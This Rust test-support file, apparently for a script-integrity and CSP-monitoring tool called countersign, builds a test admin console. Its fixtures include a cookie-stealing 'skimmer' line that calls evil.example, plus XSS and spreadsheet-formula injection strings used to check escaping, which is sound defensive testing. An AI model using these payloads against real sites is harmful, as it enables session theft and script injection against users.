//! Countersign with a console, and with observations of which nobody has to visit a page.

use std::fs;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use countersign::analysis;
use countersign::app::DriftConfig;
use countersign::inventory::{Decision, SeenKind};
use countersign::sri::{Algorithm, Digest};
use countersign::store::{Class, Reported, ScriptSeen, Violation};
use tempfile::TempDir;

use crate::browser::{Front, Policies, policy};
use crate::support::{Client, Response};

/// The bytes of `chat` that were approved first, and last.
pub(crate) const FIRST: &str = "chat.open(1);";
pub(crate) const LAST: &str = "chat.open(2);chat.close();";
/// What its vendor serves, and nobody approved.
pub(crate) const SKIMMER: &str = "chat.open(2);fetch('https://evil.example/'+document.cookie);";
/// Texts that must stay texts.
pub(crate) const HOSTILE: [&str; 5] = [
    "https://evil.example/</td><script>alert(1)</script>",
    "https://evil.example/\"><img src=x onerror=alert(2)>.js",
    "https://evil.example/'onmouseover='alert(3)'&amp;{{7*7}}.js",
    "javascript:alert(4)//",
    "=cmd|' /C calc'!A0",
];

pub(crate) struct Console {
    pub(crate) front: Front,
    folder: TempDir,
    address: SocketAddr,
}

pub(crate) fn digest(text: &str) -> Digest {
    Digest::of(Algorithm::Sha384, text.as_bytes())
}

pub(crate) fn policies() -> Policies {
    let scripts =
        [("chat", "https://cdn.example/chat.js", "pin", "/*"), ("app", "/app.js", "pin", "/help/*")];
    let policy = policy("http://127.0.0.1:9", &scripts, &[("theme", "/*")]);
    let policies = Policies::new(&format!("{policy}\n[csp]\nconnect-src = [\"'self'\"]\n"));
    policies.approve("chat", FIRST);
    policies.approve("chat", LAST);
    policies.approve_inline("theme", "dark()");
    policies
}

impl Console {
    pub(crate) fn start() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let front = policies().start(|config| {
            config.admin = Some(([127, 0, 0, 1], 0).into());
            config.drift = Some(DriftConfig {
                // Never, while a test runs.
                interval: Duration::from_hours(24),
                blind_after: Duration::from_hours(48),
                folder: Some(folder.path().to_owned()),
                allowed: countersign::drift::Allowed { private: false, through_proxy: false },
                patience: Duration::from_secs(1),
                read: Arc::new(analysis::read),
            });
        });
        let address = front.admin("").trim_start_matches("http://").parse().unwrap();
        Self { front, folder, address }
    }

    pub(crate) async fn get(&self, path: &str) -> Response {
        let mut client = Client::connect(self.address).await;
        let host = self.address;
        client.ask(format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")).await
    }

    /// A page's text; it is there.
    pub(crate) async fn page(&self, path: &str) -> String {
        let response = self.get(path).await;
        assert_eq!(response.status, 200, "{path}: {}", response.text());
        response.text()
    }

    /// A page had a script.
    pub(crate) fn seen(&self, script: &str, verdict: Decision) {
        let kind = if script.starts_with("sha") { SeenKind::Inline } else { SeenKind::External };
        self.front.store().script_seen(ScriptSeen {
            site: "site".into(),
            page: "/*".into(),
            kind,
            srcdoc: 0,
            script: script.into(),
            digest: None,
            attribute: None,
            verdict,
            reason: if verdict.stops() { "unknown-url" } else { "approved-url" }.into(),
            enforced: true,
        });
    }

    /// A browser reported something, from a network of this number.
    pub(crate) fn reported(&self, class: Class, directive: &str, blocked: &str, network: u64) -> Violation {
        let violation = Violation {
            site: "site".into(),
            kind: "csp-violation".into(),
            class,
            reason: "not-in-policy".into(),
            rule: Some("/*".into()),
            directive: directive.into(),
            blocked: blocked.into(),
            source: None,
            digest: None,
            disposition: "enforce".into(),
        };
        self.front.store().reported(Reported {
            violation: violation.clone(),
            document: "https://shop.example/pay".into(),
            browser: "Chromium 156".into(),
            generation: None,
            network,
        });
        violation
    }

    /// Bytes of `chat` lie in quarantine.
    pub(crate) fn quarantined(&self, text: &str) -> String {
        let folder = self.folder.path().join("quarantine/site/chat");
        fs::create_dir_all(&folder).unwrap();
        let name = digest(text).url_safe();
        fs::write(folder.join(format!("{name}.js")), text).unwrap();
        name
    }
}

/// The addresses that a page links to, whose text begins so.
pub(crate) fn links(page: &str, begin: &str) -> Vec<String> {
    let parts = page.split("href=\"").skip(1).filter_map(|part| part.split_once('"'));
    parts.map(|(link, _)| link.replace("&#38;", "&")).filter(|link| link.starts_with(begin)).collect()
}
